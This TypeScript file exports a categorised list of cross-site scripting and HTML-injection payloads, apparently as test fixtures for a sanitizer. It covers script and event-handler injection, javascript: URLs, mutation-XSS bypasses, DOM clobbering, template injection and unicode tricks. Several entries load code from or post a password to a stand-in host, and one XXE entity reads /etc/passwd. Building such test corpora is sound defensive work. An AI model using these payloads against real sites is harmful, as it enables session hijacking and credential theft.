const raw = String.raw

/**
 * What people send who want a page to run, load or look like something else: the classic ways, by kind. Each calls `alert`, or names a
 * host that nobody else does.
 */
export const PAYLOADS: Record<string, string[]> = {
  scripts: [
    '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script src=data:,alert(1)></script>', '<script type=module>alert(1)</script>', '<script>alert(1)',
    '<script/x>alert(1)</script>', '<script\u0000>alert(1)</script>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '<<script>alert(1);//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '"><script>alert(1)</script>', '\'><script>alert(1)</script>', '</script><script>alert(1)</script>', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '--><script>alert(1)</script><!--',
    ']]><script>alert(1)</script>', '</style><script>alert(1)</script>', '</noscript><script>alert(1)</script>', '<script>import("//evil.example/x.js")</script>', '<script async src="blob:x"></script>',
    '<script nonce="">alert(1)</script>', '<script src="app.js" onload="alert(1)"></script>', '<script type="speculationrules">{"prefetch":[{"urls":["//evil.example/"]}]}</script>', '<script type=importmap>{"imports":{"./log.js":"//evil.example/x.js"}}</script>'
  ],
  images: [
    '<img src=x onerror=alert(1)>', '<img src="//evil.example/x.png">', '<IMG SRC="jav\tascript:alert(1);">', '<img src=`javascript:alert(1)`>', '<img """><script>alert(1)</script>">', '<img/src/onerror=alert(1)>',
    '<img src=x:x onerror\u000b=alert(1)>', '<img srcset="//evil.example/x.png 1x">', '<image src=x onerror=alert(1)>', '<picture><source srcset="//evil.example/x"><img></picture>', '<img src=x onerror="&#97;lert(1)">',
    '<input type=image src=x onerror=alert(1)>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<video poster=//evil.example/x></video>', '<body background="//evil.example/x">', '<img src=x loading=eager onload=alert(1)>'
  ],
  svgAndMath: [
    '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<svg><script>alert(1)</script></svg>', '<svg><script href="data:,alert(1)"/></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></svg>', '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></foreignObject></svg>', '<svg><set attributeName=onmouseover to=alert(1)>',
    '<svg><image href="//evil.example/x"/></svg>', '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>', '<math href="javascript:alert(1)">x</math>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><feImage href="//evil.example/x"/></svg>'
  ],
  frames: [
    '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<iframe src=//evil.example></iframe>', '<iframe onload=alert(1)>', '<object data="javascript:alert(1)"></object>', '<object data="//evil.example/x.swf"></object>',
    '<embed src="javascript:alert(1)">', '<embed src="//evil.example/x.svg" type="image/svg+xml">', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>', '<applet code="x" codebase="//evil.example"></applet>', '<portal src="//evil.example">', '<fencedframe></fencedframe>'
  ],
  forms: [
    '<form action="javascript:alert(1)"><button>x</button></form>', '<form><button formaction="javascript:alert(1)">x</button></form>', '<button form=composer formaction=//evil.example>x</button>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>',
    '<isindex type=image src=1 onerror=alert(1)>', '<form action=//evil.example><input name=password autofocus>', '<input form=composer name=text value=x>', '<keygen autofocus onfocus=alert(1)>'
  ],
  heads: [
    '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=//evil.example">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<meta http-equiv="Content-Security-Policy" content="default-src *">', '<meta name="referrer" content="unsafe-url">',
    '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=prefetch href=//evil.example>', '<link rel=dns-prefetch href=//evil.example>', '<link rel=preconnect href=//evil.example>', '<link rel=manifest href=//evil.example>', '<link rel=import href=data:text/html,<script>alert(1)</script>>',
    '<title>x</title>', '</head><body onload=alert(1)>', '<html onload=alert(1)>', '<link rel="icon" href="//evil.example/x">'
  ],
  styles: [
    '<style>@import "//evil.example/x.css";</style>', '<style>body{background:url(//evil.example/x)}</style>', '<div style="background:url(//evil.example/x)">x</div>', '<style>*{display:none}</style>', '<div style="position:fixed;inset:0;background:red">x</div>', '<x style="x:expression(alert(1))">',
    '<div style="behavior:url(//evil.example/x.htc)">', '<div style="-moz-binding:url(//evil.example/x.xml#x)">', '}body{background:url(//evil.example/x)}', '<style>@keyframes x{}</style><x style="animation-name:x" onanimationstart=alert(1)>', raw`<style>\2f\2f evil.example</style>`, '"; background: url(//evil.example/x); "'
  ],
  urls: [
    'javascript:alert(1)', ' javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', 'javascript&colon;alert(1)', 'javascript:/*--></title></style></textarea></script><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
    'javascript://example.org/%0aalert(1)', 'javascript://https://example.org/%0aalert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', 'view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)',
    'https://example.org/"onmouseover="alert(1)', 'https://example.org/\'onmouseover=\'alert(1)', 'https://example.org/"><script>alert(1)</script>', 'https://example.org/javascript:alert(1)', '[x](javascript:alert(1))', '![x](//evil.example/x.png)', '<javascript:alert(1)>', '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="java&NewLine;script:alert(1)">x</a>', '<a href=//evil.example ping=//evil.example>x</a>', '<a href="data:text/html,x" download>x</a>', 'http://\u202Emoc.elpmaxe', 'https://example.org\u0000@evil.example', 'https://example.org#<img src=x onerror=alert(1)>'
  ],
  handlers: [
    '<b onclick=alert(1)>x</b>', '<div onmouseover=alert(1)>x</div>', '<body onpageshow=alert(1)>', '<body onhashchange=alert(1)>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<p onpointerenter=alert(1)>x</p>', '<x onfocusin=alert(1) tabindex=1 autofocus>', '<div contenteditable autofocus onfocus=alert(1)>',
    '" onfocus=alert(1) autofocus x="', '\' onmouseover=alert(1) \'', '<x oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>', '<dialog open onclose=alert(1)><form method=dialog><button>x', '<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x'
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<template><img src=x onerror=alert(1)></template>', '<template shadowrootmode=open><script>alert(1)</script></template>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<plaintext><script>alert(1)</script>', '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;', '<option><style></option></select><img src=x onerror=alert(1)></style>', '<svg><desc><table><td></desc><img src=x onerror=alert(1)>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', raw`\x3cscript\x3ealert(1)\x3c/script\x3e`, raw`\u003cscript\u003ealert(1)`, '%3Cscript%3Ealert(1)%3C/script%3E', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'
  ],
  clobbering: [
    '<a id=log></a><a id=log name=x href=//evil.example>', '<form id=composer><input name=elements></form>', '<img name=getElementById>', '<img name=body>', '<form name=location>', '<a id=self href="javascript:alert(1)">', '<input id=text name=text>', '<iframe name=top srcdoc=x></iframe>', '<object id=document></object>', '<img id=scroller>',
    '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__', 'then', 'length', 'undefined', 'null', 'NaN', '[object Object]', '{"__proto__":{"polluted":true}}', 'document.body', 'log', 'composer', 'text', 'me', 'people'
  ],
  templates: [
    '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '{{7*7}}', '[[${7*7}]]', '<x v-html="\'<img src=x onerror=alert(1)>\'">', '<div ng-app ng-csp ng-click=$event.view.alert(1)>', '<x is="x-y">', '%s %d %o %c', '\'; alert(1); //', raw`\'; alert(1); //`, '`${alert(1)}`', ');alert(1)//', '\u2028alert(1)\u2029'
  ],
  unicode: [
    '＜script＞alert(1)＜/script＞', '\uFEFF<script>alert(1)</script>', '\u202E>tpircs/<)1(trela>tpircs<', '<\u200Bscript>alert(1)</script>', '\u00ADjavascript:alert(1)', 'ſcript:alert(1)', '<ſcript>alert(1)</ſcript>', '<İmg src=x onerror=alert(1)>', '\u0000<script>alert(1)</script>', '\u001b]8;;//evil.example\u0007x\u001b]8;;\u0007', '\u001b[31mred', '\uFFFE\uFFFF<b>',
    '\u2066<b>\u2069\u202D<i>', 'a\u0300'.repeat(200), '\u{E0001}\u{E0073}<script>', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}<b>', 'ﷺ'.repeat(50), '\r\n\r\n<script>alert(1)</script>', 'data: <script>alert(1)</script>\n\nevent: message', '\u0085<script>\u2028alert(1)\u2029</script>'
  ]
}
